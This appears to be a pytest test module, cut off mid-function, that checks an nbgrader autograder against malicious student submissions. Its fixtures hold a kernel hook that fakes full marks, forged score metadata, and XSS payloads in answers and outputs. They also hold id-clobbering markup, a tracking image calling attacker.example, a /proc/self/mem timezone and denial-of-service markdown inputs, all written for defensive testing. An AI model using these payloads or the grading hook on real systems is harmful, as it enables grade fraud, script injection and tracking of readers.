"""What a student hands in is data, never a grade: attacks on `qkv-grade --nbgrader` through the
files nbgrader copies from submitted/ into autograded/, the notebook's metadata and outputs, and
the written answers, each in a real course (real `nbgrader autograde`, gradebook,
`qkv-grade --nbgrader` and `nbgrader generate_feedback`).

The class: alice (the reference, honest); mallory (the stub, a cell that fools autograde into full
marks, in-kernel scores written into her notebook's metadata, and a file named like the grader's
pending notebook that claims 500 points); pat (the reference, with code that puts a picture with
a script, SVG, HTML and hidden values beside it into every later cell's output, the heatmap's and
the checks' included, and outputs saved in the notebook itself); wes (the reference, with scripts
in every written answer, and in the first markup that takes the grades' ids, wears the page's own
banner and fetches a picture from elsewhere); tim (the reference, with a timestamp.txt no date
fits); tia (the reference, with a timestamp.txt whose time zone names a file that cannot be read);
nora (a notebook that is not JSON); olga (the reference, with metadata of odd shapes and an answer
claiming 500 points).
"""
from __future__ import annotations

import base64
import functools
import html.parser
import json
import os
import re
import shutil
import struct
import subprocess
import sys
import time
import zlib
from pathlib import Path

import nbformat
import pytest

from support import (ASSIGNMENT, FORMGRADE, IN_CI, NOTEBOOK, build_course, filled_notebook, gradebook_scores,
                     reference_source, released_course, submit_notebook)

from autograder import release
from autograder.steps import ANSWERS, MAX_SCORE, STEPS

try:
    import nbgrader  # noqa: F401
except ImportError:
    if IN_CI:
        raise
    pytest.skip("nbgrader is not installed (pip install -e '.[nbgrader]')", allow_module_level=True)

from nbgrader.api import Gradebook  # noqa: E402

# Under pytest-xdist, one worker runs the module: its course goes through nbgrader once.
pytestmark = pytest.mark.xdist_group("nbgrader-trust")

SEED = 13
NOTEBOOK_ID = Path(NOTEBOOK).stem
POINTS = {step.id: step.points for step in STEPS}
# Patches nothing of the grader's: plants a grading module in the kernel that hands out every point.
FAKE_HOOK = """\
import json, sys, types
points = {step["id"]: step["points"] for step in json.load(open("steps.json"))["steps"]}
fake = types.ModuleType("autograder.nbgrader_hook")
fake.check = lambda step_id, *functions: points[step_id]
sys.modules["autograder.nbgrader_hook"] = fake"""
MARK = "PLANTED"


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(comment: bytes) -> bytes:
    """A real 2 x 2 PNG that carries `comment` in a text chunk."""
    rows = b"".join(b"\x00" + b"\xff\x00\x00" * 2 for _ in range(2))
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0))
            + _chunk(b"tEXt", b"Comment\x00" + comment) + _chunk(b"IDAT", zlib.compress(rows))
            + _chunk(b"IEND", b""))


def _noise(width: int, height: int) -> str:
    """A real PNG of `width` x `height` pixels of noise, as a notebook holds it (base64): stored
    uncompressed, some three bytes a pixel."""
    import random

    pixels = random.Random(width * height).randbytes(3 * width * height)
    rows = b"".join(b"\x00" + pixels[row:row + 3 * width] for row in range(0, len(pixels), 3 * width))
    png = (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
           + _chunk(b"IDAT", zlib.compress(rows, 0)) + _chunk(b"IEND", b""))
    return base64.b64encode(png).decode()


# After every later cell, the heatmap's and the checks' included, the kernel shows a bundle with a
# picture, a script, an SVG with a script and a hidden case's expected values; and a "picture" that
# is a script.
PLANT = f"""\
from pathlib import Path
from IPython.display import display
from autograder import cases, nbgrader_course
from solutions import attention_head as reference
_seed = nbgrader_course.course_seed(nbgrader_course.find_course(Path.cwd()))
_hidden = cases.build(_seed)["softmax"][2].calls[0].args[0]
_leak = "{MARK} " + " ".join(f"{{x:.6g}}" for x in reference.softmax_rows(_hidden).ravel())
_png = {base64.b64encode(_png(b"{MARK} in the picture")).decode()!r}
def _plant(*_):
    display({{"image/png": _png, "text/plain": _leak,
              "text/html": "<script>window.__pwned = 'html'</script>" + _leak,
              "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload=\\"window.__pwned = 'svg'\\">"
                               "<script>window.__pwned = 'svg script'</script></svg>",
              "application/javascript": "window.__pwned = 'js'"}}, raw=True)
    display({{"image/png": {base64.b64encode(b"<script>window.__pwned = 'png'</script>").decode()!r}}}, raw=True)
get_ipython().events.register("post_run_cell", _plant)"""
SAVED_OUTPUT = {"output_type": "display_data", "metadata": {},
                "data": {"text/html": f"<script>window.__pwned = 'saved'</script>{MARK}",
                         "text/plain": MARK}}
SCRIPTED_ANSWERS = [
    "<img src=x onerror=\"window.__pwned = 'img'\"> The weights stay uniform.",
    "<script>window.__pwned = 'script'</script> Columns are not rows.",
    "<svg><script>window.__pwned = 'svg'</script></svg><svg onload=\"window.__pwned = 'svgload'\"></svg>",
    "[a link](javascript:window.__pwned='link') <a href=\"javascript:window.__pwned='a'\">another</a>"
    # relative links to bleach, which nbconvert's strip_files_prefix would make scripts
    " [a file](files/javascript:window.__pwned='files') <a href=\"/files/javascript:window.__pwned='f'\">f</a>",
    "<iframe srcdoc=\"<script>parent.__pwned='iframe'</script>\"></iframe>"
    "<details open ontoggle=\"window.__pwned='toggle'\">x</details>",
]
HIDDEN_SOLUTION = "# GHOST: solved where no person looks\n" + reference_source()
BAD_TIMESTAMP = "0001-01-01 00:00:00 +0100"  # before the first representable UTC instant
RAW_CLOBBER = ('<div class="nbgrader_cell panel panel-primary"><span id="check-qkv"></span><span id="check-softmax">'
               '</span><a class="btn btn-success full-credit">Full credit</a> RAW-FROM-WES</div>')
# A time zone is read as a file's name: this one's reading fails (EIO), and one that is a FIFO never ends.
PATH_TIMESTAMP = "2026-12-01 10:00:00 /proc/self/mem"
# Markup that takes a score box's place where formgrader looks it up by id (a heading gets one
# too), dresses as the page's own banner, and fetches a picture that tells its author who reads.
CLOBBER = ("\n\n" + "".join(f'<span id="{grade_id}"></span>' for grade_id in (*(f"check-{step.id}" for step in STEPS),
                                                                        *(f"answer-{name}" for name in ANSWERS)))
           + "\n\n# check-softmax\n\n<div class=\"navbar navbar-fixed-top alert alert-success\">qkv-grade: all checks"
           " passed</div> <img src=\"https://attacker.example/track.png?who=wes\">")


def _run(argv: list[str], cwd: Path, env: dict, timeout: float = 600) -> subprocess.CompletedProcess:
    return subprocess.run(argv, cwd=cwd, env=env, capture_output=True, text=True, timeout=timeout)


def _nbgrader(command: str, course: Path, env: dict, *more: str) -> subprocess.CompletedProcess:
    return _run([sys.executable, "-m", "nbgrader", command, ASSIGNMENT, *more], course, env)


def _trusted(course: Path, root: Path, env: dict) -> subprocess.CompletedProcess:
    return _run([sys.executable, "-m", "autograder.cli", "--nbgrader", str(course), ASSIGNMENT], root, env)


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    root = tmp_path_factory.mktemp("nbtrust")
    path, env, released = released_course(root, SEED)

    mallory = nbformat.read(released, as_version=4)
    mallory.cells[3:3] = [nbformat.v4.new_code_cell(FAKE_HOOK)]
    mallory.metadata["qkv"] = {"in_kernel": {step: 0.0 for step in POINTS},
                               "trusted_scores": dict(POINTS), "trusted_seed": SEED}
    pat = filled_notebook(released, reference_source())
    pat.cells[3:3] = [nbformat.v4.new_code_cell(PLANT)]
    for cell in pat.cells:
        if cell.cell_type == "code" and (cell.get("id") == "plot" or "check(" in cell.source):
            cell.outputs = [nbformat.from_dict(SAVED_OUTPUT)]
    wes = filled_notebook(released, reference_source())
    answers = iter(SCRIPTED_ANSWERS)
    for n, cell in enumerate(cell for cell in wes.cells
                             if cell.cell_type == "markdown" and cell.metadata.get("nbgrader", {}).get("solution")):
        cell.source = next(answers) + (CLOBBER if n == 0 else "")
    # a raw cell, which nbconvert puts into the page as HTML; tags, which it writes into a class
    wes.cells.insert(1, nbformat.v4.new_raw_cell(RAW_CLOBBER))
    tagged = nbformat.v4.new_code_cell("tagged = 1")
    tagged.metadata["tags"] = ["x hidden", "alert navbar-fixed-top", "kept-tag"]
    wes.cells.insert(2, tagged)
    olga = filled_notebook(released, reference_source())
    olga.metadata["qkv"] = ["in_kernel", 100]
    for cell in olga.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "answer-ANSWER_1":
            cell.metadata["nbgrader"]["points"] = 500
            cell.metadata["qkv_title"] = "<script>window.__pwned = 'title'</script>"
        elif cell.cell_type == "markdown" and "nbgrader" not in cell.metadata:
            cell.metadata["nbgrader"] = "grade"
            cell.metadata["qkv_pending"] = True
    # hidey: the stub, with the solution hidden in the locked setup cell, moved last, which nbgrader
    # shows a person as the source has it; ghost: the stub, with the solution in a cell of its own whose
    # metadata hides its source from the pages a person reads.
    hidey = nbformat.read(released, as_version=4)
    setup = next(cell for cell in hidey.cells if cell.get("id") == "setup")
    setup.source += "\n" + HIDDEN_SOLUTION
    hidey.cells.remove(setup)
    hidey.cells.append(setup)  # last, so that its functions are the ones left defined
    ghost = nbformat.read(released, as_version=4)
    hidden = nbformat.v4.new_code_cell(HIDDEN_SOLUTION)
    hidden.metadata.update(transient={"remove_source": True}, jupyter={"source_hidden": True}, hide_input=True)
    ghost.cells.append(hidden)
    students = {"alice": filled_notebook(released, reference_source()), "mallory": mallory, "pat": pat,
                "wes": wes, "tim": filled_notebook(released, reference_source()), "olga": olga,
                "tia": filled_notebook(released, reference_source()),
                "hidey": hidey, "ghost": ghost}
    submitted = {student: submit_notebook(path, student, notebook) for student, notebook in students.items()}
    # mallory's own "pending notebook": her notebook, claiming every point and 500 more.
    fake = nbformat.read(released, as_version=4)
    # It matches what the fooled autograde put in the gradebook, and says the kernel agreed.
    fake.metadata["qkv"] = {"in_kernel": {step: 0.0 for step in POINTS}, "trusted_scores": dict(POINTS),
                            "trusted_seed": SEED}
    bonus = nbformat.v4.new_code_cell("print('bonus')")
    bonus.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": False, "points": 500,
                                  "grade_id": "answer-ANSWER_1", "schema_version": 3}
    fake.cells.append(bonus)
    (submitted["mallory"].parent / f".{NOTEBOOK}.qkv-pending").write_text(nbformat.writes(fake))
    (submitted["tim"].parent / "timestamp.txt").write_text(BAD_TIMESTAMP)
    nora = path / "submitted" / "nora" / ASSIGNMENT
    nora.mkdir(parents=True)
    (nora / NOTEBOOK).write_text('{"cells": [ this is not JSON')
    submitted["nora"] = nora / NOTEBOOK

    autograde = _nbgrader("autograde", path, env)
    in_kernel = gradebook_scores(path)
    # written once nbgrader's own autograde, which reads it too, is done
    (submitted["tia"].parent / "timestamp.txt").write_text(PATH_TIMESTAMP)
    trusted = _trusted(path, root, env)
    assert trusted.returncode == 0, trusted.stderr
    feedback = _nbgrader("generate_feedback", path, env)
    return {"path": path, "root": root, "env": env, "submitted": submitted, "autograde": autograde,
            "in_kernel": in_kernel, "trusted": trusted, "feedback": feedback}


@pytest.fixture(scope="module")
def oracle(course):
    """What qkv-grade says, with the course's seed, about each submitted notebook."""
    done = _run([sys.executable, "-m", "autograder.cli", str(course["path"] / "submitted"), "--format", "json",
                 "--seed", str(SEED), "--out", str(course["root"] / "qkv-results")], course["root"], course["env"])
    assert done.returncode == 0, done.stderr
    return {result["submission"].split("/")[0]: {step["id"]: step["score"] for step in result["steps"]}
            for result in json.loads(done.stdout)}


def _page(course, student: str) -> str:
    return (course["path"] / "feedback" / student / ASSIGNMENT / NOTEBOOK).with_suffix(".html") \
        .read_text(encoding="utf-8")


def _totals(course) -> dict[str, float]:
    """Student -> the notebook's total in the gradebook (what formgrader, feedback and export show)."""
    with Gradebook(f"sqlite:///{course['path'] / 'gradebook.db'}") as gradebook:
        return {submission.student.id: gradebook.find_submission_notebook(NOTEBOOK_ID, ASSIGNMENT,
                                                                          submission.student.id).score
                for submission in gradebook.find_assignment(ASSIGNMENT).submissions}


class _Tags(html.parser.HTMLParser):
    """Every tag of a page with its attributes, and the text of each script."""

    def __init__(self, text: str):
        super().__init__()
        self.tags, self.scripts, self._in_script = [], [], False
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self._in_script = tag == "script"

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.scripts.append(data)


def _active(text: str) -> list[str]:
    """What in a page could run a student's script: event-handler attributes, javascript: links,
    frames, SVG, and scripts that mention the planted marker."""
    found = _Tags(text)
    active = [f"<{tag} {name}=>" for tag, attrs in found.tags for name in attrs if name.startswith("on")]
    active += [f"<{tag} {name}={value}>" for tag, attrs in found.tags for name, value in attrs.items()
               if value and "javascript:" in value.replace(" ", "").lower()]
    active += [f"<{tag}>" for tag, _ in found.tags if tag in ("iframe", "svg", "object", "embed", "details")]
    active += [script[:60] for script in found.scripts if "__pwned" in script]
    return active


def _planted_values(course) -> set[str]:
    """The hidden expected values pat's kernel printed, as it printed them."""
    from autograder import cases
    from solutions import attention_head as reference

    hidden = cases.build(SEED)["softmax"][2].calls[0].args[0]
    return {f"{x:.6g}" for x in reference.softmax_rows(hidden).ravel() if len(f"{x:.6g}") > 5}


# --- the checks themselves -----------------------------------------------------------------------

def test_a_picture_is_kept_only_as_a_whole_png_of_its_pixels():
    from autograder.nbgrader_feedback import PNG_SIGNATURE, clean_png

    good = _png(MARK.encode())
    kept = base64.b64decode(clean_png(base64.b64encode(good).decode()))
    assert kept.startswith(PNG_SIGNATURE) and MARK.encode() not in kept and b"IDAT" in kept
    broken_crc = good.replace(b"IDAT", b"IDAu", 1)
    svg = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
    for bad in (b"<script>alert(1)</script>", good[:-4], good + b"<script>", broken_crc, svg,
                PNG_SIGNATURE + b"<script>"):
        assert clean_png(base64.b64encode(bad).decode()) is None, bad[:20]
    assert clean_png("not base64 <script>") is None and clean_png(None) is None


def test_cleaned_markdown_keeps_formatting_and_shows_markup_that_runs_as_text():
    from autograder.nbgrader_feedback import MARKDOWN_CLEANER

    kept = MARKDOWN_CLEANER.clean('<p><em>a</em> <code>x &lt; y</code> <a href="https://example.org">ok</a></p>'
                                  '<img src="data:image/png;base64,AAAA" alt="p">')
    assert kept == ('<p><em>a</em> <code>x &lt; y</code> <a href="https://example.org">ok</a></p>'
                    '<img src="data:image/png;base64,AAAA" alt="p">')
    dressed = MARKDOWN_CLEANER.clean('<h1 id="check-softmax">t</h1><span id="check-qkv" name="x" class="alert">s</span>'
                                     '<img src="https://attacker.example/t.png" alt="t"><img src="//attacker.example/u.png">')
    assert dressed == '<h1>t</h1><span>s</span><img alt="t"><img>'
    for answer in SCRIPTED_ANSWERS + ['<img src="data:image/svg+xml;base64,AAAA">',
                                      '<a href="data:text/html,<script>x</script>">l</a>',
                                      '<a href=" jav&#x09;ascript:alert(1)">l</a>']:
        assert _active(MARKDOWN_CLEANER.clean(answer)) == [], answer
        assert "svg+xml" not in MARKDOWN_CLEANER.clean(answer).replace("&lt;", "")


# --- the grades ---------------------------------------------------------------------------------

def test_every_student_gets_what_their_code_earns_and_nothing_a_file_claims(course, oracle):
    trusted = gradebook_scores(course["path"])
    for student in ("alice", "mallory", "pat", "wes", "tim", "tia", "nora", "olga"):
        assert trusted[student] == oracle[student], student
    assert sum(trusted["alice"].values()) == MAX_SCORE
    assert sum(trusted["mallory"].values()) == 0.0
    totals = _totals(course)
    assert totals["mallory"] == 0.0  # no 500 points from a file named like the grader's
    assert totals["alice"] == totals["olga"] == MAX_SCORE  # the written answers wait for a person
    with Gradebook(f"sqlite:///{course['path'] / 'gradebook.db'}") as gradebook:
        grade = gradebook.find_grade("answer-ANSWER_1", NOTEBOOK_ID, ASSIGNMENT, "olga")
        assert grade.max_score == 2.0 and grade.auto_score is None and grade.needs_manual_grade


def test_a_fake_pending_notebook_in_the_submission_is_never_adopted(course):
    assert sum(course["in_kernel"]["mallory"].values()) == MAX_SCORE  # autograde was fooled
    autograded = course["path"] / "autograded" / "mallory" / ASSIGNMENT
    notebook = nbformat.read(autograded / NOTEBOOK, as_version=4)
    assert "print('bonus')" not in [cell.source for cell in notebook.cells]
    assert notebook.metadata["qkv"]["trusted_scores"] == {step: 0.0 for step in POINTS}
    with Gradebook(f"sqlite:///{course['path'] / 'gradebook.db'}") as gradebook:
        grade = gradebook.find_grade("answer-ANSWER_1", NOTEBOOK_ID, ASSIGNMENT, "mallory")
        assert grade.auto_score == 0.0 and grade.max_score == 2.0


def test_a_second_run_adopts_no_pending_notebook_from_autograded_either(course, tmp_path):
    """The grader's own pending notebooks are not in autograded/: whatever is there named like
    one is left alone, and the gradebook keeps what the code earns."""
    path = tmp_path / "course"
    shutil.copytree(course["path"], path)
    planted = path / "autograded" / "mallory" / ASSIGNMENT / f".{NOTEBOOK}.qkv-pending"
    # nbgrader autograde's own copy step brings every file of the submission (the grader's copies
    # only code, text, data and pictures): put it there as autograde would
    planted.write_bytes((path / "submitted" / "mallory" / ASSIGNMENT / planted.name).read_bytes())
    before = gradebook_scores(path)
    done = _trusted(path, course["root"], course["env"])
    assert done.returncode == 0, done.stderr
    assert gradebook_scores(path) == before
    notebook = nbformat.read(path / "autograded" / "mallory" / ASSIGNMENT / NOTEBOOK, as_version=4)
    assert notebook.metadata["qkv"]["trusted_scores"] == {step: 0.0 for step in POINTS}


def test_a_gradebook_that_is_no_database_is_one_line_and_changes_nothing(course, tmp_path):
    """A gradebook overwritten (a disk error, a bad copy) is read before anything is graded: one line
    says so, with status 2, never a traceback, and nothing of the course changes."""
    path = tmp_path / "course"
    shutil.copytree(course["path"], path)
    (path / "gradebook.db").write_bytes(bytes(range(256)) * 16)
    done = _trusted(path, course["root"], course["env"])
    assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
    assert len(done.stderr.strip().splitlines()) == 1 and "could not read the course" in done.stderr, done.stderr
    assert (path / "gradebook.db").read_bytes() == bytes(range(256)) * 16


def test_a_gradebook_locked_once_grading_is_done_loses_no_grade(course, tmp_path):
    """Another process holds the gradebook's write lock (formgrader saving) from the moment grading
    begins until after SQLite's wait: the grades computed are printed all the same, nothing is
    recorded, and one line says why, with status 3."""
    import sqlite3
    import threading

    path = tmp_path / "course"
    shutil.copytree(course["path"], path)
    before = gradebook_scores(path)
    process = subprocess.Popen([sys.executable, "-m", "autograder.cli", "--nbgrader", str(path), ASSIGNMENT],
                               cwd=course["root"], env=course["env"], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                               text=True)
    locked, release = threading.Event(), threading.Event()

    def grading() -> bool:
        """Has a grading worker started (the gradebook has been read, and grading is under way)?"""
        for child in Path("/proc").glob("[0-9]*"):
            try:
                status = (child / "status").read_text()
                if f"PPid:\t{process.pid}\n" in status and b"inside.main()" in (child / "cmdline").read_bytes():
                    return True
            except OSError:
                continue
        return False

    def hold():
        deadline = time.monotonic() + 120
        while not grading() and process.poll() is None and time.monotonic() < deadline:
            time.sleep(0.01)
        database = sqlite3.connect(path / "gradebook.db", timeout=30)
        database.execute("BEGIN EXCLUSIVE")
        locked.set()
        release.wait(120)
        database.rollback()
        database.close()

    holder = threading.Thread(target=hold, daemon=True)
    holder.start()
    stdout, stderr = process.communicate(timeout=300)
    release.set()
    holder.join(30)
    assert locked.is_set()
    assert process.returncode == 3 and "Traceback" not in stderr, stderr
    assert "database is locked" in stderr and "no grade changed" in stderr, stderr
    assert all(student in stdout for student in before), stdout
    assert gradebook_scores(path) == before


def test_scores_in_the_notebooks_metadata_do_not_make_the_comparison_agree(course):
    report = course["trusted"].stdout
    assert "differ from these" in report
    line = next(line for line in report.splitlines() if line.startswith("  mallory:"))
    assert f"in-kernel {MAX_SCORE:g}, trusted 0" in line
    for student in ("alice", "pat", "wes", "olga"):  # honest code: autograde said the same
        assert f"  {student}:" not in report


# --- what people read ---------------------------------------------------------------------------

def test_outputs_planted_in_the_heatmap_and_check_cells_are_gone_but_a_real_picture(course):
    notebook = nbformat.read(course["path"] / "autograded" / "pat" / ASSIGNMENT / NOTEBOOK, as_version=4)
    checks = {release.check_cell_id(step.id) for step in STEPS}
    for cell in notebook.cells:
        if cell.cell_type != "code":
            continue
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") in checks:
            assert [output.output_type for output in cell.outputs] == ["stream"]
            assert MARK not in cell.outputs[0].text
        elif cell.get("id") == "plot":
            assert cell.outputs, "the heatmap's picture is kept"
            for output in cell.outputs:
                assert output.output_type == "display_data" and set(output.data) == {"image/png"}
                picture = base64.b64decode(output.data["image/png"])
                assert picture.startswith(b"\x89PNG\r\n\x1a\n") and MARK.encode() not in picture
        else:
            assert cell.outputs == []
    page = _page(course, "pat")  # it shows pat's code, which names the marker: never its outputs
    assert _active(page) == [] and f'{MARK} in the picture' not in page
    assert "<script>window.__pwned" not in page and f"{MARK} 0." not in page
    assert not _planted_values(course) & set(re.findall(r"\d\.\d+", page))


def test_scripts_in_written_answers_are_inert_in_the_feedback(course):
    page = _page(course, "wes")
    assert _active(page) == [] and _active(_page(course, "alice")) == [] and _active(_page(course, "olga")) == []
    assert "__pwned" not in _page(course, "olga")
    assert "The weights stay uniform." in page  # the answer is still shown


def test_hidden_tests_are_cut_from_a_cell_line_by_line_as_the_pattern_would_and_in_linear_time():
    import random

    from autograder.nbgrader_feedback import without_hidden

    pattern = re.compile(r"^[ \t]*### BEGIN HIDDEN TESTS\s*$.*?^[ \t]*### END HIDDEN TESTS[ \t]*\n?",
                         re.MULTILINE | re.DOTALL)  # what the cut means, on texts it reads quickly
    pieces = ["a", "", "### BEGIN HIDDEN TESTS", "### END HIDDEN TESTS", "  ### BEGIN HIDDEN TESTS",
              "### END HIDDEN TESTS \t", "check('softmax')"]
    pick = random.Random(3)
    for _ in range(5000):
        text = "\n".join(pick.choice(pieces) for _ in range(pick.randint(0, 8))) + pick.choice(["", "\n"])
        assert without_hidden(text) == pattern.sub("", text), repr(text)
    unclosed = "### BEGIN HIDDEN TESTS\n" * 200_000  # hours for the pattern
    assert without_hidden(unclosed) == unclosed


def test_the_source_notebook_s_marks_are_found_line_by_line_as_the_pattern_would_and_in_linear_time():
    import random

    import nbformat

    from autograder.nbgrader_trusted import _source_marks

    config = {"ClearSolutions": {}, "ClearHiddenTests": {}, "ClearMarkScheme": {}}
    # what the check means, on texts it reads quickly: a mark alone on a line but for non-word characters
    pattern = re.compile(r"^\W*(BEGIN SOLUTION|BEGIN HIDDEN TESTS|BEGIN MARK SCHEME)\W*$", re.MULTILINE)
    pieces = ["#", " ", "\t", "\n", "-", "x", "_", "é", "BEGIN SOLUTION", "BEGIN HIDDEN TESTS", "BEGIN  SOLUTION"]
    pick = random.Random(5)
    for _ in range(5000):
        text = "".join(pick.choice(pieces) for _ in range(pick.randint(0, 9)))
        found = pattern.search(text)
        cell = nbformat.v4.new_markdown_cell(text)
        assert _source_marks(nbformat.v4.new_notebook(cells=[cell]), config) == (found.group(1) if found else ""), text
    # a written answer of a million blank lines, then a million marks: hours for the pattern, which
    # holds the interpreter lock meanwhile and so stops every grading thread
    answer = nbformat.v4.new_markdown_cell("My answer." + "\n" * 1_000_000 + "#" * 1_000_000 + "BEGIN SOLUTION x")
    assert _source_marks(nbformat.v4.new_notebook(cells=[answer]), config) == ""


def test_markdown_whose_maths_would_take_minutes_to_render_is_shown_as_text():
    from autograder.nbgrader_feedback import CleanMarkdown

    # ... or whose marks of emphasis and code the renderer would take seconds to pair (within the
    # cell's characters: 20 000 of them, 1.4 s)
    # ... or render to more than the cleaner reads quickly (a table of thousands of cells, entities)
    table = "|" * 400 + "\n" + "-|" * 400 + "\n" + ("|" * 400 + "\n") * 40
    for source in ("\\begin{a}" * 5000, "\\(" * 5000, "x" * 30_000, "<b><p>" * 3000, "#\n" * 5000, "*`" * 9995,
                   "_`" * 501, "[](" * 350 + "*" * 300, table, "~~a~~ " * 3333):
        shown = CleanMarkdown.__call__(None, None, source + "<script>")  # never rendered: no exporter needed
        assert shown.startswith("<pre>") and "<script>" not in shown


def test_lines_ended_otherwise_than_by_a_newline_count_as_lines_before_anything_is_rendered(monkeypatch):
    """The renderer ends a line at a lone carriage return too: `#\r` written 5 000 times is 5 000
    headings, 0.6 s to render and clean a cell, though it holds no newline. Lines are counted as
    Python splits them (carriage returns, Unicode line separators), so such a cell is told by its
    text alone, as text, and never rendered first."""
    from types import SimpleNamespace

    from autograder import nbgrader_feedback
    from autograder.nbgrader_feedback import CleanMarkdown

    rendered = []
    monkeypatch.setattr(nbgrader_feedback, "_markdown_html", lambda _exporter, _context, source: rendered.append(source) or "")
    for source in ("#\n" * 5000, "#\r" * 5000, "a\r=\r" * 3000, "#\r\n" * 5000, "#\u2028" * 5000, "- a\x0c" * 3000):
        shown = CleanMarkdown.__call__(SimpleNamespace(parent=None), None, source + "<script>")
        assert shown.startswith("<pre>") and "<script>" not in shown and rendered == [], repr(source[:6])
    assert CleanMarkdown.__call__(SimpleNamespace(parent=None), None, "# A heading\r\rand a line") == ""
    assert rendered == ["# A heading\r\rand a line"]  # an ordinary cell is rendered as before


def test_a_notebook_of_hundreds_of_heavy_markdown_cells_is_rendered_within_a_page_s_budget():
    """Each cell within MOST_MARKDOWN, but hundreds of them, each thousands of nested tags for the
    cleaner to balance (about a second apiece): past the page's budget, the reader's view shows a
    cell's text as it is, which the markdown filter writes out without the cleaner. The written
    answers keep their rendering whatever comes before them."""
    import nbformat

    from autograder import nbgrader_feedback
    from autograder.nbgrader_feedback import ANSWER_TITLES, MOST_PAGE_TAGS, CleanMarkdown, reader_view

    notebook = nbformat.v4.new_notebook()
    bomb = "<b><p>" * 3333
    notebook.cells = [nbformat.v4.new_markdown_cell("Some words, *emphasis* and <b>bold</b>.")]
    notebook.cells += [nbformat.v4.new_markdown_cell(bomb) for _ in range(800)]
    answer = nbformat.v4.new_markdown_cell("My answer, <b>bold</b>.")
    answer.metadata["nbgrader"] = {"grade_id": next(iter(ANSWER_TITLES)), "grade": True, "solution": True, "points": 2}
    notebook.cells.append(answer)
    reader_view(notebook)
    reader_view(notebook)  # generate_feedback runs it again on the autograded notebook: fenced once
    cleaned = []
    original = nbgrader_feedback.MARKDOWN_CLEANER, nbgrader_feedback._markdown_html
    nbgrader_feedback.MARKDOWN_CLEANER = type("Counting", (), {"clean": lambda self, text: cleaned.append(text) or text})()
    nbgrader_feedback._markdown_html = lambda exporter, context, source: source
    try:
        from types import SimpleNamespace

        shown = [CleanMarkdown.__call__(SimpleNamespace(parent=None), None, cell.source) for cell in notebook.cells]
    finally:
        nbgrader_feedback.MARKDOWN_CLEANER, nbgrader_feedback._markdown_html = original
    assert len(cleaned) <= 1 + MOST_PAGE_TAGS // bomb.count("<") + 1  # the first cells, and the answer
    assert notebook.cells[0].source.startswith("Some words") and cleaned[0].startswith("Some words")
    assert cleaned[-1] == "My answer, <b>bold</b>."
    assert all(text.startswith("<pre><code>&lt;b&gt;&lt;p&gt;") and "<b>" not in text for text in shown[2:-1])
    assert not any(cell.source.startswith("~~~~") for cell in notebook.cells)


def test_code_past_a_cell_s_or_a_page_s_budget_is_shown_as_text_and_never_highlighted():
    """pygments' Python lexer reads some lines in time growing with the square of their length
    (`1.1.1…`: 46 s for 100 000 characters): a code cell past MOST_CODE characters or MOST_CODE_LINE
    on one line, and every cell once MOST_PAGE_CODE characters have been highlighted on the page,
    is marked by the reader's view and shown by the pages' highlighter as its text, escaped."""
    import time

    import nbformat

    from autograder.nbgrader_feedback import (MOST_CODE, MOST_CODE_LINE, MOST_PAGE_CODE, BoundedHighlight,
                                              reader_view)

    notebook = nbformat.v4.new_notebook()
    lines = ("x = 1  # <b>\n" * MOST_CODE)[:MOST_CODE - 100]  # within a cell's budget
    notebook.cells = [nbformat.v4.new_code_cell("y = 2  # <b>"), nbformat.v4.new_code_cell(LONG_LINE),
                      nbformat.v4.new_code_cell("1." * (MOST_CODE_LINE // 2 + 1)),
                      *[nbformat.v4.new_code_cell(lines) for _ in range(MOST_PAGE_CODE // MOST_CODE + 2)],
                      nbformat.v4.new_code_cell("z = 3")]
    reader_view(notebook)
    plain = [bool(cell.metadata.get("qkv_plain")) for cell in notebook.cells]
    assert plain[:3] == [False, True, True] and plain[3:3 + MOST_PAGE_CODE // MOST_CODE] == [False] * (MOST_PAGE_CODE // MOST_CODE)
    assert all(plain[3 + MOST_PAGE_CODE // MOST_CODE:-1]) and not plain[-1]  # past the page's budget; a small cell fits
    highlight = BoundedHighlight()
    started = time.perf_counter()
    shown = [highlight(cell.source, metadata=cell.metadata) for cell in notebook.cells]
    assert time.perf_counter() - started < 10
    assert '<span class="n">y</span>' in shown[0] and "<b>" not in shown[0]
    assert LONG_LINE in shown[1] and "<span" not in shown[1] and "&lt;b&gt;" in shown[-2] and "<b>" not in shown[-2]
    assert "<span" not in highlight(LONG_LINE)  # unmarked, past a cell's budget all the same


def test_no_fenced_code_in_markdown_is_handed_to_pygments(monkeypatch):
    """The cleaner drops highlighting's classes anyway; pygments would spend seconds on a long line."""
    from nbconvert import HTMLExporter
    from nbconvert.filters import markdown_mistune

    from autograder.nbgrader_feedback import CleanMarkdown

    def refuse(*_):
        raise AssertionError("handed to pygments")

    monkeypatch.setattr(markdown_mistune, "highlight", refuse)
    shown = CleanMarkdown(parent=HTMLExporter())({}, "Some *words*.\n\n```python\nx = 1.1.1 < 2\n```\n")
    assert "<em>words</em>" in shown and "<pre><code>x = 1.1.1 &lt; 2" in shown


def test_a_written_answer_takes_no_grade_s_id_nor_the_page_s_banners_nor_a_picture_from_elsewhere(course, tmp_path):
    """Formgrader binds each grade's inputs to the first element with the grade's id: an answer's
    markup must name none, or one click would score another cell."""
    pages = {"formgrader": (_formgrader_page(course, "wes", tmp_path), _formgrader_page(course, "alice", tmp_path)),
             "feedback": (_page(course, "wes"), _page(course, "alice"))}
    for name, (page, honest) in pages.items():
        assert "all checks passed" in page, name  # the answer is shown, as text
        ids, honest_ids = ([attrs.get("id") for _, attrs in _Tags(text).tags] for text in (page, honest))
